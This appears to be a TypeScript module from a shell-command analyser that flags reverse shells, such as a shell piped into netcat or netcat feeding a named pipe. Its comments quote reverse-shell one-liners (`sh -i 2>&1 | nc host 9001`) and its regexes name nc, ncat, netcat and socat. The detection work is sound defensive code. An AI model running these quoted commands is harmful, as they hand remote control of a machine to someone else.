import type { Command, StandardInput } from '../../shell/command.js';
import type { Running } from '../command/running.js';
import { pipedInto, textOf } from '../../shell/command.js';
import { isCommonShell } from '../../shell/shell-names.js';
import { programName } from '../command/names/program-name.js';
import { isOwnMachine } from '../../paths/own-hosts.js';
import { pathNamed } from '../target.js';

/** `sh -i 2>&1 | nc host 9001`: what goes down the pipe is what a shell prints that is told what to do by somebody else. */
export function isFedByShell(command: Command): boolean {
  return pipedInto(command).some(({ words: [first, ...args], input }) => {
    const program = programName(textOf(first));
    const isShell = isCommonShell(program) || program === 'fish';
    return isShell && !isSaid(input) && args.every((arg) => WAITS.test(textOf(arg)));
  });
}

/** What hands on by itself what it reads: `nc -l 80 < pipe | nc host 80 > pipe` leads from one machine to the other. */
const LEADS_ON = /^(?:nc|ncat|netcat|socat)$/;

/**
 * `nc host 9001 > pipe`: what somebody else sends goes to whoever reads a named pipe that an earlier call has made, and obeys
 * it perhaps. Where that is read is not told here.
 */
export function answersPipe(running: Running): boolean {
  const {
    command: { redirections, words },
    frame: { analysis },
  } = running;
  const pipes = redirections.flatMap(({ operator, target }) =>
    operator.startsWith('>') ? (pathNamed(textOf(target), running) ?? []) : [],
  );
  const earlier = pipes.filter((path) => isNamedPipe(analysis.world.past.writtenBy(path)) && !analysis.files.writings.has(path));
  if (earlier.length === 0 || words.slice(1).some((word) => isOwnMachine(textOf(word)))) return false;
  return !analysis.flows.some(
    ({ command: { words: others, input } }) =>
      LEADS_ON.test(textOf(others[0])) && input.kind === 'file' && earlier.includes(pathNamed(textOf(input.path), running) ?? ''),
  );
}

/** True for the programs that wrote a path where they made a named pipe of it. */
function isNamedPipe(writers: ReadonlySet<string>): boolean {
  return writers.has('mkfifo') || writers.has('mknod');
}

/** By what a shell is told to go on with what somebody else says. */
const LISTENS = /<|\b(?:\w{0,9}sh|eval|source|read|python[\d.]{0,9}|perl|ruby|node|php)\b/;

/** True for an input that stands in the source: `echo ls | sh` waits for nobody. */
function isSaid(input: StandardInput): boolean {
  if (input.kind === 'pipe') {
    return (
      input.from.length > 0 &&
      input.from.every(
        ({ words: [program, ...args] }) =>
          /^(?:echo|printf)$/.test(textOf(program)) &&
          args.every(({ values }) =>
            values.every(({ text, certainty, origins }) => certainty !== 'unknown' && origins === undefined && !LISTENS.test(text)),
          ),
      )
    );
  }
  return input.kind === 'text';
}

/** An option with which a shell still reads its commands from its input. */
const WAITS = /^(?:-[abd-zA-Z]+|--(?:login|noprofile|norc|posix|rcfile))$/;
